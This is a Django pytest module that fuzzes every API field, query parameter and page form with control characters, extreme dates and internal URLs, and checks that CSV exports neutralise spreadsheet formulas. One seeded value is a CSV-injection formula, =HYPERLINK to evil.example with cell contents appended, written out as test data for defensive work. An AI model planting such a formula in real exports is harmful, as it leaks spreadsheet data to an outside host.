"""Generated checks (issue 12) over every endpoint that takes text, dates or URLs, and every CSV export.

Like the junk-input tests beside it, the endpoints come from the live OpenAPI schema and the URL resolver, so a new
endpoint or field is covered without being listed here:

- every string property of every JSON request body (top level, and inside arrays of strings or of objects): a line
  break or control character in short text, an escape character in long text, a year-1 / year-9999 date in date
  fields, and for URL fields every refused SSRF target: 400 naming the problem, nothing written;
- every documented query parameter of every API GET, and every page route (GET query and POST form): the same
  control characters and extreme dates answer 400;
- every page route asked for `format=csv`: each CSV it returns has no cell a spreadsheet would run as a formula,
  although the seeded data is full of them, and its file name is a safe slug.
"""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.contrib.auth import get_user_model
from django.db import transaction
from django.test import Client
from rest_framework.test import APIClient

from qualitygov import csv_export, inputs
from releases.models import Release
from testing.models import Requirement, TestCase

from .test_ssrf import refused_urls
from .web_routes import api_routes, page_routes, seed_ids
from .web_routes import fill as _fill_route

OUR_REASONS = ("control characters", "dates must lie", "public address", "internal host", "valid http(s) URL")
SAFE_STATUSES = {403, 404, 405, 409}  # answered before the body is read: nothing parsed, nothing written


def fill(route: str, ids: dict) -> str:
    """The route with its parameters filled from the seeded data; a route web_routes cannot fill yet (a parameter
    without an entry there, which the CSRF and fuzz tests report) gets a non-existent id in every parameter: the
    query and form rules answer before any view, so the route is still covered."""
    try:
        return _fill_route(route, ids)
    except AssertionError:
        return _placeholder(route)


def _placeholder(route: str) -> str:
    route = re.sub(r"\(\?P<(\w+)>[^)]*\)", "987654321", route)
    return "/" + re.sub(r"<(?:\w+:)?(\w+)>", "987654321", route)


def _schema(client) -> dict:
    return client.get("/api/schema/?format=json").json()


def _resolve(schema: dict, node: dict) -> dict:
    while "$ref" in node:
        node = schema["components"]["schemas"][node["$ref"].rsplit("/", 1)[1]]
    if "allOf" in node and len(node["allOf"]) == 1:
        return _resolve(schema, node["allOf"][0])
    return node


def _template(route: str) -> str:
    """A resolver route or a schema path with its parameters blanked ({pk} and {id} are the same place)."""
    route = re.sub(r"\(\?P<(\w+)>[^)]*\)", "{}", route)
    route = re.sub(r"<(?:\w+:)?(\w+)>", "{}", route)
    return "/" + re.sub(r"\{[^}]*\}", "{}", route).lstrip("/")


def _hostile_values(name: str, prop: dict) -> list:
    """What to send in a string field: by format, else by whether the field is short or long text."""
    fmt = prop.get("format")
    if fmt == "date":
        return ["0001-01-01", "9999-12-31"]
    if fmt == "date-time":
        return ["0001-01-01T00:00:00Z", "9999-12-31T23:59:59Z"]
    if fmt == "uri":
        return refused_urls(8080)
    if name in inputs.MULTILINE_FIELDS:
        return ["a\x1bb", "a\x00b"]
    return ["a\r\nb", "a\tb", "a\x00b"]


def _cases(schema: dict, body_schema: dict):
    """(field path, body) pairs: one hostile value in one string field of an otherwise empty body."""
    for name, raw in body_schema.get("properties", {}).items():
        prop = _resolve(schema, raw)
        if prop.get("readOnly"):
            continue
        if prop.get("type") == "string":
            for value in _hostile_values(name, prop):
                yield name, {name: value}
        elif prop.get("type") == "array":
            items = _resolve(schema, prop.get("items", {}))
            if items.get("type") == "string":
                for value in _hostile_values(name, items)[:1]:
                    yield f"{name}[0]", {name: [value]}
            for sub, subraw in items.get("properties", {}).items():
                subprop = _resolve(schema, subraw)
                if subprop.get("type") == "string":
                    for value in _hostile_values(sub, subprop)[:1]:
                        yield f"{name}[0].{sub}", {name: [{sub: value}]}


def _call(client, method: str, url: str, body):
    with transaction.atomic():
        response = getattr(client, method)(url, body, format="json")
        transaction.set_rollback(True)
    return response


@pytest.mark.django_db
def test_every_json_body_field_refuses_control_characters_extreme_dates_and_internal_urls():
    ids = seed_ids()
    client = APIClient(raise_request_exception=False)
    client.force_authenticate(get_user_model().objects.get(username="admin"))
    schema = _schema(client)
    urls = {_template(route): fill(route, ids) for route in api_routes()}
    failures, refused, skipped = [], 0, []
    operations = 0
    for path, item in schema["paths"].items():
        for method in ("post", "put", "patch"):
            operation = item.get(method)
            content = (operation or {}).get("requestBody", {}).get("content", {})
            if "application/json" not in content:
                continue
            operations += 1
            url = urls[_template(path)]
            body_schema = _resolve(schema, content["application/json"]["schema"])
            for field, body in _cases(schema, body_schema):
                response = _call(client, method, url, body)
                text = response.content.decode(errors="replace")
                if response.status_code == 400 and any(reason in text for reason in OUR_REASONS):
                    refused += 1
                    continue
                if response.status_code == 400 and field.split("[")[0] == "url":
                    refused += 1  # DRF's URLField refused the form first
                    continue
                baseline = _call(client, method, url, {}).status_code
                if response.status_code in SAFE_STATUSES and response.status_code == baseline:
                    skipped.append((method, path, response.status_code))
                    continue
                failures.append((method, path, field, repr(body)[:60], response.status_code, text[:120]))
    assert failures == []
    assert operations >= 35
    # nearly everything was refused by the rule itself (the rest never read its body: 403 decide, 409 states)
    assert refused >= 200 and len(skipped) <= refused // 10, (refused, sorted(set(skipped)))


@pytest.mark.django_db
def test_every_api_query_parameter_refuses_control_characters_and_extreme_dates():
    ids = seed_ids()
    client = APIClient(raise_request_exception=False)
    client.force_authenticate(get_user_model().objects.get(username="admin"))
    schema = _schema(client)
    paths = {_template(path): item for path, item in schema["paths"].items()}
    failures, calls = [], 0
    for route in api_routes():
        get = paths.get(_template(route), {}).get("get")
        if not get:
            continue
        url = fill(route, ids)
        names = {p["name"] for p in get.get("parameters", []) if p.get("in") == "query"} | {"q", "project"}
        for name in sorted(names):
            for value in ("a\r\nb", "a\x00b", "a\x1b[2J", "0001-01-01T00:00:00Z", "9999-01-01"):
                if value == "a\r\nb" and name in inputs.MULTILINE_FIELDS:
                    continue  # long text (the duplicate finder's description) may hold line breaks
                calls += 1
                response = client.get(url, {name: value})
                if response.status_code != 400 or not any(
                    r in response.content.decode() for r in OUR_REASONS
                ):
                    failures.append((url, name, repr(value), response.status_code))
    assert failures == []
    assert calls > 300


@pytest.mark.django_db
def test_every_page_refuses_control_characters_and_extreme_dates_in_queries_and_forms():
    ids = seed_ids()
    client = Client(raise_request_exception=False)
    assert client.login(username="admin", password=ids["password"])
    routes = [r for r in page_routes() if "logout" not in r]
    assert len(routes) >= 60
    failures = []
    for route in routes:
        url = fill(route, ids)
        attempts = [
            ("get", {"q": "a\r\nb"}),
            ("get", {"as_of": "0001-01-01"}),
            ("get", {"since": "9999-12-31"}),
            ("post", {"version": "3.0\r\n1", "title": "ok"}),
            ("post", {"name": "a\tb"}),
            ("post", {"description": "fine\nlines", "comment": "esc \x1b"}),
            ("post", {"due_date": "0001-01-01"}),
            ("post", {"started_at": "9999-12-31T23:59"}),
        ]
        for method, data in attempts:
            response = getattr(client, method)(url, data)
            if response.status_code != 400 or not any(r in response.content.decode() for r in OUR_REASONS):
                failures.append((method, url, data, response.status_code))
    assert failures == []


@pytest.mark.django_db
def test_every_url_field_refuses_internal_targets():
    """Every URL a user can register, over the API (schema format uri) and on the pages (forms with a url field)."""
    from metrics.models import Webhook

    ids = seed_ids()
    api = APIClient(raise_request_exception=False)
    api.force_authenticate(get_user_model().objects.get(username="admin"))
    schema = _schema(api)
    urls = {_template(route): fill(route, ids) for route in api_routes()}
    targets = []
    for path, item in schema["paths"].items():
        for method in ("post", "put", "patch"):
            content = (item.get(method) or {}).get("requestBody", {}).get("content", {})
            if "application/json" in content:
                body_schema = _resolve(schema, content["application/json"]["schema"])
                for name, raw in body_schema.get("properties", {}).items():
                    if _resolve(schema, raw).get("format") == "uri":
                        targets.append((method, urls[_template(path)], name))
    assert targets, "no URL field in the API: the SSRF test has nothing to check"
    before = Webhook.objects.count()
    for method, url, name in targets:
        for bad in refused_urls(80):
            response = getattr(api, method)(url, {name: bad, "secret": "s" * 32, "name": "x"}, format="json")
            assert response.status_code == 400, (url, bad, response.content)
    page = Client(raise_request_exception=False)
    assert page.login(username="admin", password=ids["password"])
    page_urls = [fill(r, ids) for r in page_routes() if "alerts" in r and "<int:pk>" not in r]
    assert page_urls
    for url in page_urls:
        for bad in refused_urls(80):
            response = page.post(url, {"form": "webhook", "name": "x", "url": bad, "secret": "s" * 32})
            assert response.status_code == 400, (url, bad)
    assert Webhook.objects.count() == before


@pytest.mark.django_db
def test_every_csv_export_neutralises_formulas_and_names_its_file_safely():
    ids = seed_ids()
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    release = Release.objects.get(pk=ids["release"])
    Release.objects.filter(pk=release.pk).update(version="+" + formula)
    Requirement.objects.filter(project__key="PAY").update(title=formula)
    Requirement.objects.filter(pk=ids["requirement"]).update(key="@REQ")
    TestCase.objects.filter(project__key="PAY").update(title="-" + formula)
    from gates.models import AuditEvent

    actor = get_user_model().objects.create(username="@evil")
    AuditEvent.objects.create(
        project=release.project, release=release, action="\tx", summary=formula, actor=actor
    )

    client = Client(raise_request_exception=False)
    assert client.login(username="admin", password=ids["password"])
    exports = 0
    for route in page_routes():
        if "logout" in route:
            continue
        url = fill(route, ids)
        response = client.get(url, {"format": "csv"})
        if not response.get("Content-Type", "").startswith("text/csv"):
            continue
        exports += 1
        body = b"".join(response.streaming_content) if response.streaming else response.content
        rows = list(csv.reader(io.StringIO(body.decode())))
        cells = [cell for row in rows for cell in row]
        assert any(cell.startswith("'") and formula in cell for cell in cells), url
        assert not [c for c in cells if c.startswith(csv_export.FORMULA_STARTS)], url
        assert re.fullmatch(
            r'attachment; filename="[A-Za-z0-9._-]+\.csv"', response["Content-Disposition"]
        ), url
    assert exports >= 2  # the audit log and the traceability matrix today
